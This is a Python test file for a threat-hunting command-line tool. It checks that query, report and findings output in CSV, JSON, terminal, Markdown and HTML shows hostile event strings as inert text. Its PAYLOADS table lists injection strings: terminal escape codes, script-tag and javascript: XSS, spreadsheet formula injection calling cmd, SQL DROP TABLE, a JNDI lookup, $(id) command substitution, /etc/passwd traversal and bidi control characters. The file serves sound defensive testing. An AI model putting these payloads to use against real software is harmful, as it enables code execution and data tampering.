"""Events whose every string carries something that would act: each output is read by a parser or a
terminal of its own kind, and must show it as text.

What is shown is held against a store of harmless events of the same shape: the same elements, rows
and cells, with other text in them.
"""

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
from xml.etree import ElementTree

import html5lib
import pyte
import pytest
from markdown_it import MarkdownIt

from corpus import launches
from huntdb import load, rows, run

AS_OF = ["--as-of", "2026-11-23"]
PAYLOADS = {
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[6n\x9b31m\x1bP+q\x1b\\\x08\r\nroot",
    "html": "</td></pre><script>alert(1)</script><img src=x onerror=alert(1)><!--<a href='javascript:1'>x</a>",
    "entities": "&lt;b&gt;&#60;i&#62;<svg/onload=1>\"'`=",
    "markdown": "[x](javascript:1) ![y](http://192.0.2.9/p) `|` **b** <b>h</b> http://192.0.2.9/ \n# head\n---\n| a | b |",
    "markdown link": "<http://192.0.2.9/> [r]: http://192.0.2.9 \\| ~~s~~ __u__ &copy; *e*",
    "formula": "=cmd|'/C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula tab": "\t=1+1",
    "formula wide": "\uff1d1+1",
    "sql": "'; DROP TABLE launch_events; --\" OR 1=1 /*",
    "format string": "%s%s%n%x%p {0} ${jndi:ldap://192.0.2.9/x} $(id) `id`",
    "path": "../../../../etc/passwd\0/x",
    "direction": "\u202etxet\u202c \u2066x\u2069 \u200f\u061c\ufeff\u2028\u2029",
    "nul": "a\0b",
    "surrogate": "\ud800x\udfff",
    "tags": "\U000e0041\U000e007f\u200b\u2060",
    "million": "x" * 1_000_000,
}


def replaced(value, text):
    """The value with every string in it but the keys replaced."""
    if isinstance(value, dict):
        return {key: replaced(child, text) for key, child in value.items()}
    if isinstance(value, list):
        return [replaced(child, text) for child in value]
    return text if isinstance(value, str) else value


def hostile(record, payload, number):
    """A launch that is one still, and whose every other string carries the payload."""
    whole = json.loads(record)
    if len(payload) > 10_000:
        # As many as fit into the largest record that is read.
        result = {key: payload if isinstance(value, str) else value for key, value in whole.items()}
        result["requestParameters"]["instanceType"] = payload
    else:
        result = replaced(whole, payload)
    for key in ("eventSource", "eventName", "eventTime"):
        result[key] = whole[key]
    result["eventID"] = f"{number} {payload}"
    result["userIdentity"]["type"] = whole["userIdentity"]["type"]
    # JSON lets everything but C0 controls stand as it is; halves of surrogate pairs have no other form.
    return json.dumps(result, ensure_ascii=exact(payload) != payload or number.endswith("1"))


def exact(text):
    """A string as it is kept: halves of surrogate pairs cannot be."""
    return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)


def make(program, folder, payloads, decisions):
    folder.mkdir()
    week = [r for r in launches() if '"eventTime":"2026-11-1' in r or '"eventTime":"2026-11-20' in r]
    shapes = [r for r in week if max(item["maxCount"] for item in json.loads(r)[
        "requestParameters"]["instancesSet"]["items"]) >= 10 and '"eventTime":"2026-11-0' not in r][-6:]
    text = [hostile(shape, payload, f"{n}-{m}") for n, payload in enumerate(payloads)
            for m, shape in enumerate(shapes if len(payload) < 10_000 else shapes[:1])]
    (folder / "log").write_text("\n".join(text))
    # A name that is hostile too, and a record that ends up in the list of problems.
    (folder / "b\x1b[2J|<b>=1").write_text('{"eventVersion":"</td><script>\x1b[2J|`\n')
    store = folder / "hunt.db"
    summary = load(program, store, folder)
    assert summary["events_new"] == len(text), summary["problems"]
    # What an analyst pastes from them into a decision is as hostile.
    found = rows(program, store, "SELECT finding_id FROM findings ORDER BY principal", *AS_OF)
    assert len(found) > len(PAYLOADS) // 2
    sayable = [payload for payload in payloads if "\0" not in payload and exact(payload) == payload]
    for finding, reason in zip(found, sayable[:decisions]):
        done = run(program, "findings", "suppress", "--db", store, *AS_OF, "--until", "9999-12-31", "--reason",
                   reason[:10_000], finding["finding_id"])
        assert done.status == 0, done.errors
    return store


@pytest.fixture(scope="module")
def store(program, tmp_path_factory, rounds):
    return make(program, tmp_path_factory.mktemp("hostile") / "x", list(PAYLOADS.values()), rounds(5, 100))


@pytest.fixture(scope="module")
def harmless(program, tmp_path_factory, rounds):
    names = [f"name-{n}" for n in range(len(PAYLOADS))]
    return make(program, tmp_path_factory.mktemp("harmless") / "x", names, rounds(5, 100))


SELECT = "SELECT * FROM launch_attempts ORDER BY event_id"
SMALL = "SELECT * FROM launch_attempts WHERE length(user_agent) < 1000 ORDER BY event_id"


def findings_of(program, store, rounds):
    """The IDs of some findings, of all in the long version."""
    found = [row["finding_id"] for row in rows(program, store, "SELECT finding_id FROM findings ORDER BY 1", *AS_OF)]
    return found[::rounds(len(found) // 2, 1)]


def listed(program, store, form, *options):
    done = run(program, "findings", "list", "--db", store, *AS_OF, "--format", form, *options)
    assert done.status == 0, done.errors
    return done.text


def shown(program, store, finding, form):
    done = run(program, "findings", "show", "--db", store, *AS_OF, "--format", form, finding)
    assert done.status == 0, done.errors
    return done.text


def reported(program, store, form, *options):
    done = run(program, "report", "--db", store, *AS_OF, "--format", form, *options)
    assert done.status == 0, done.errors
    return done.text


def query(program, store, form, sql=SELECT, *options):
    done = run(program, "query", "--db", store, "--format", form, *AS_OF, *options, sql)
    assert done.status == 0, done.errors
    return done


def test_json_gives_every_string_back(program, store):
    found = {row["user_agent"] for row in json.loads(query(program, store, "json").output)}
    assert found == {exact(payload) for payload in PAYLOADS.values()}
    lines = query(program, store, "jsonl").output.split(b"\n")
    assert {json.loads(line)["user_agent"] for line in lines if line} == found
    kept = rows(program, store, "SELECT record_json FROM event_records")
    assert {json.loads(row["record_json"])["userAgent"] for row in kept} == set(PAYLOADS.values())


def test_csv_gives_every_string_back_and_nothing_a_spreadsheet_runs(program, store):
    csv.field_size_limit(10_000_000)
    header, *raw = csv.reader(io.StringIO(query(program, store, "csv", SELECT, "--raw").text, newline=""))
    same, *guarded = csv.reader(io.StringIO(query(program, store, "csv").text, newline=""))
    assert header == same and len(raw) == len(guarded)
    assert {row[header.index("user_agent")] for row in raw} == {exact(p) for p in PAYLOADS.values()}
    assert {len(row) for row in raw} == {len(header)}
    is_inert_copy(raw, guarded)


def is_inert_copy(raw, guarded):
    """Whether the cells are the raw ones, but for a quote before what a spreadsheet would run."""
    assert [len(row) for row in raw] == [len(row) for row in guarded]
    for cell, shown in ((c, s) for before, after in zip(raw, guarded) for c, s in zip(before, after)):
        assert shown in (cell, "'" + cell)
        assert not shown.startswith(("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
        assert not shown.startswith("-") or float(shown) is not None


def test_csv_of_findings_and_of_the_report_gives_every_string_back_and_runs_nothing(program, store, rounds):
    csv.field_size_limit(10_000_000)

    def table(text):
        return list(csv.reader(io.StringIO(text, newline="")))
    exactly = rows(program, store, "SELECT principal FROM findings", *AS_OF)
    for ask in (listed, reported):
        raw, guarded = table(ask(program, store, "csv", "--raw")), table(ask(program, store, "csv"))
        is_inert_copy(raw, guarded)
        at = raw[0].index("principal")
        assert {row[at] for row in raw[1:]} == {row["principal"] for row in exactly}
        assert any(cell.startswith("'=cmd|") for row in guarded for cell in row)
    for finding in findings_of(program, store, rounds):
        assert len({len(row) for row in table(shown(program, store, finding, "csv"))}) == 1


def test_json_of_findings_and_of_events_gives_every_string_back(program, store, rounds):
    exactly = {row["principal"] for row in rows(program, store, "SELECT principal FROM findings", *AS_OF)}
    assert exactly > {exact(payload) for payload in PAYLOADS.values() if len(payload) < 1000}
    listing = listed(program, store, "jsonl").strip().split("\n")
    for found in (json.loads(listed(program, store, "json")), [json.loads(line) for line in listing]):
        assert {row["principal"] for row in found} == exactly
    assert {row["principal"] for row in json.loads(reported(program, store, "json"))["findings"]} == exactly
    for finding in findings_of(program, store, rounds):
        [row] = json.loads(shown(program, store, finding, "json"))
        assert row["principal"] in exactly
        lines = [json.loads(line) for line in shown(program, store, finding, "jsonl").strip().split("\n")]
        assert lines[0]["principal"] == row["principal"]
    status = json.loads(run(program, "status", "--db", store, "--json").text)
    assert status["events"] == 6 * (len(PAYLOADS) - 1) + 1
    for number, payload in enumerate(PAYLOADS.values()):
        if "\0" in payload or exact(payload) != payload or len(payload) > 1000:
            continue
        for shape in (0, 1):
            event = run(program, "event", "--db", store, f"{number}-{shape} {payload}")
            assert event.status == 0 and json.loads(event.text)["userAgent"] == payload


def test_tsv_keeps_every_row_on_its_line(program, store):
    lines = query(program, store, "tsv").text.rstrip("\n").split("\n")
    assert len(lines) == 1 + 6 * (len(PAYLOADS) - 1) + 1
    found = listed(program, store, "tsv").rstrip("\n").split("\n")
    assert len(found) == 1 + rows(program, store, "SELECT count(*) AS n FROM findings", *AS_OF)[0]["n"]
    for table in (lines, found):
        assert {line.count("\t") for line in table} == {table[0].count("\t")}
        assert not any(cell[:1] in ("=", "+", "@", "\r") for line in table for cell in line.split("\t"))


# --------------------------------------------------------------------------------------- terminals

class Watched(pyte.Screen):
    """A terminal that notes everything but text that it is asked to do."""

    def __init__(self):
        self.orders = set()
        super().__init__(400, 50)

    def __getattribute__(self, name):
        # The stream asks the screen for each order by its name.
        if name in Watched.watched:
            object.__getattribute__(self, "orders").add(name)
        return object.__getattribute__(self, name)

    watched = frozenset(pyte.Stream.events) - {"draw", "linefeed", "carriage_return"}


def on_terminal(program, *arguments):
    """What the program writes to a terminal, as bytes."""
    master, slave = pty.openpty()
    environment = dict(os.environ, TERM="xterm-256color", COLUMNS="200")
    environment.pop("NO_COLOR", None)
    process = subprocess.Popen(
        [program, *map(str, arguments)], stdin=slave, stdout=slave, stderr=slave, env=environment)
    os.close(slave)
    shown = b""
    while True:
        try:
            piece = os.read(master, 1 << 16)
        except OSError:
            break
        if not piece:
            break
        shown += piece
    os.close(master)
    process.wait()
    return shown


COMMANDS = {
    "table": ["query", SMALL], "vertical": ["query", "--format", "vertical", SMALL],
    "problems": ["query", "SELECT * FROM import_problems"],
    "records": ["query", "--format", "vertical", "SELECT record_json FROM event_records LIMIT 60"],
    "error": ["query", "SELECT '\x1b[2J' FROM \"\x1b]0;x\x07\""],
    "report": ["report"], "status": ["status"], "event": ["event", "0-0 " + PAYLOADS["terminal"]],
    "check": ["check"], "import": ["import", "--dry-run", "{folder}"], "missing": ["event", "\x1b[2J"],
    "findings": ["findings", "list"], "findings vertical": ["findings", "list", "--format", "vertical"],
    "finding": ["findings", "show", "{finding}"], "finding vertical": ["findings", "show", "--format", "vertical", "{finding}"],
    "suppress": ["findings", "suppress", "--reason", "\x1b[2J", "--until", "\x1b[6n", "{finding}"],
    "suppress nothing": ["findings", "suppress", "--reason", "x", "--until", "9999-12-31", "\x1b]0;x\x07"],
    "saved": ["query", "--saved", "\x1b[2J"], "schema": ["schema", "\x1b[2J"], "backup": ["backup", "{folder}/no/\x1b[2J"],
    "prune": ["prune", "--dry-run", "--older-than", "9999-12-31"],
    "json": ["query", "--format", "json", SMALL], "signals": ["query", "SELECT * FROM finding_signals"],
}


@pytest.mark.parametrize("name", list(COMMANDS))
def test_a_terminal_is_asked_for_nothing_but_text_and_colour(program, store, harmless, name):
    def watch(at):
        finding = rows(program, at, "SELECT finding_id FROM findings ORDER BY principal LIMIT 1 OFFSET 3", *AS_OF)
        command, *rest = [word.replace("{folder}", str(at.parent)).replace("{finding}", finding[0]["finding_id"])
                          for word in COMMANDS[name]]
        if command == "findings":
            command, rest = [command, rest[0]], rest[1:]
        else:
            command = [command]
        hunt = AS_OF if command[0] in ("query", "report", "findings") else []
        shown = on_terminal(program, *command, "--db", at, *hunt, *rest)
        assert len(shown) > 10
        screen = Watched()
        stream = pyte.ByteStream(screen)
        screen.orders.clear()
        stream.feed(shown)
        assert screen.title == "" and not shown.count(b"\x07")
        return screen.orders, shown
    orders, shown = watch(store)
    assert orders <= watch(harmless)[0] | {"select_graphic_rendition"}, orders
    assert b"\xe2\x80\xae" not in shown and b"\xe2\x81\xa6" not in shown


# ---------------------------------------------------------------------------------- HTML, Markdown

def structure(html):
    """What a browser would make of it: elements with their attributes, and the texts of cells."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    elements = set()
    for element in tree.iter():
        if not isinstance(element.tag, str):
            # An empty one says nothing; the report puts it behind an @, so that it names nobody.
            if (element.text or "").strip():
                elements.add("comment")
            continue
        elements.add(element.tag)
        elements.update(f"{element.tag}@{name}" for name in element.attrib)
    cells = ["".join(cell.itertext()) for cell in tree.iter("td")]
    shape = [len(row.findall("td") + row.findall("th")) for row in tree.iter("tr")]
    return elements, cells, shape


def rendered(markdown):
    """As a page shows it that lets HTML through and knows GitHub's tables."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def test_markdown_of_a_query_is_one_table_of_text(program, store, harmless):
    found, cells, shape = structure(rendered(query(program, store, "markdown", SMALL).text))
    plain, _, _ = structure(rendered(query(program, harmless, "markdown", SMALL).text))
    assert found <= plain, found - plain
    assert len(set(shape)) == 1 and len(shape) == 1 + 6 * (len(PAYLOADS) - 1)
    assert any("<script>alert(1)</script>" in cell for cell in cells)
    assert any("[x](javascript:1)" in cell for cell in cells)


def test_markdown_of_the_report_has_no_elements_of_its_events(program, store, harmless):
    found, cells, shape = structure(rendered(run(program, "report", "--db", store, *AS_OF, "--format", "markdown").text))
    plain, _, _ = structure(rendered(run(program, "report", "--db", harmless, *AS_OF, "--format", "markdown").text))
    assert found <= plain, found - plain
    assert any("<script>alert(1)</script>" in cell for cell in cells)


def test_html_of_the_report_has_no_elements_of_its_events(program, store, harmless):
    page = run(program, "report", "--db", store, *AS_OF, "--format", "html")
    other = run(program, "report", "--db", harmless, *AS_OF, "--format", "html")
    found, _, _ = structure(page.text)
    plain, _, _ = structure(other.text)
    assert found <= plain, found - plain
    tree = html5lib.parse(page.text, treebuilder="etree", namespaceHTMLElements=False)
    assert any("<script>alert(1)</script>" in "".join(element.itertext()) for element in tree.iter("td"))
    for element in tree.iter():
        for name, value in element.attrib.items():
            assert not value.lstrip().lower().startswith(("javascript:", "data:text", "http://192.0.2.9")), (name, value)


def test_markdown_of_findings_has_no_elements_of_their_events(program, store, harmless, rounds):
    found, cells, _ = structure(rendered(listed(program, store, "markdown")))
    plain, _, _ = structure(rendered(listed(program, harmless, "markdown")))
    assert found <= plain, found - plain
    assert any("<script>alert(1)</script>" in cell for cell in cells)
    plain, _, _ = structure(rendered(shown(
        program, harmless, findings_of(program, harmless, rounds)[0], "markdown")))
    for finding in findings_of(program, store, rounds):
        text = shown(program, store, finding, "markdown")
        found, _, _ = structure(rendered(text))
        assert found <= plain, found - plain


def test_pictures_of_the_report_are_drawings_of_text(program, store, harmless):
    def pictures(at):
        page = reported(program, at, "html")
        parts = [part.split("</svg>")[0] for part in page.split("<svg ")[1:]]
        return [ElementTree.fromstring(f"<svg {part}</svg>") for part in parts]

    def kinds(drawings):
        every = [element for drawing in drawings for element in drawing.iter()]
        return {e.tag for e in every} | {f"{e.tag}@{name}" for e in every for name in e.attrib}
    found, plain = pictures(store), pictures(harmless)
    assert len(found) > 3 and len(plain) > 3
    assert kinds(found) <= kinds(plain)
    shown = {text for drawing in found for text in drawing.itertext()}
    assert any("<script>" in text for text in shown)


def test_a_folder_of_evidence_holds_what_it_says_and_nothing_acts(program, store, tmp_path, rounds):
    folder = tmp_path / "evidence"
    done = run(program, "report", "--db", store, *AS_OF, "--evidence", folder)
    assert done.status == 0, done.errors
    found = {row["finding_id"] for row in rows(program, store, "SELECT finding_id FROM findings", *AS_OF)}
    names = {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
    assert names == {f"events/{finding}.jsonl" for finding in found} | {
        "README.txt", "SHA256SUMS", "findings.csv", "report.html", "report.json", "report.md", "report.txt", "schema.sql",
        "source-files.sha256", "statements.sql"}
    assert [path.name for path in tmp_path.iterdir()] == ["evidence"]
    # Each by the program that it is for; the logs' names are hostile, too.
    for sums in ("SHA256SUMS", "source-files.sha256"):
        subprocess.run(["sha256sum", "--check", "--quiet", "--strict", sums], cwd=folder, check=True)
    for form, name in (("html", "report.html"), ("markdown", "report.md"), ("text", "report.txt"), ("json", "report.json")):
        assert (folder / name).read_text() == reported(program, store, form)
    kept = {line for finding in found for line in (folder / f"events/{finding}.jsonl").read_text().split("\n") if line}
    assert {json.loads(line)["userAgent"] for line in kept} >= {p for p in PAYLOADS.values() if len(p) < 1000}
    empty = sqlite3.connect(":memory:")
    empty.executescript((folder / "schema.sql").read_text())
    for statement in (folder / "statements.sql").read_text().split(";\n"):
        if statement.strip():
            empty.execute(f"EXPLAIN {statement}")
    empty.close()


def test_nothing_was_written_where_a_path_led(store):
    names = {path.name for path in store.parent.iterdir()}
    assert names <= {"log", "b\x1b[2J|<b>=1", "hunt.db", "hunt.db-wal", "hunt.db-shm"}


def test_an_output_file_goes_where_it_is_told(program, store, tmp_path):
    done = run(program, "query", "--db", store, "--format", "json", "-o", tmp_path / "out", SMALL)
    assert done.status == 0 and [path.name for path in tmp_path.iterdir()] == ["out"]
